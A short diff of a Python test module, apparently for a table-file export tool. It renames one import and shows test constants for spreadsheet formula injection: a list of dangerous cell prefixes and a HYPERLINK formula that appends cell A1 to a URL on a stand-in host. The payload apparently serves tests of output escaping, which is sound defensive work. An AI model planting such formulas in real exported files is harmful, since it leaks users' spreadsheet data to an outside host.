@@ -25,7 +25,7 @@ from ltlpipe.batch.table_files import (
     plain,
 )
 from ltlpipe.batch.task_sources import find_tasks
-from tests.cli.running import RING, program
+from tests.cli.command_line import RING, program
 
 STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\uff1d"]
 EVIL = '=HYPERLINK("http://example.org?"&A1)'
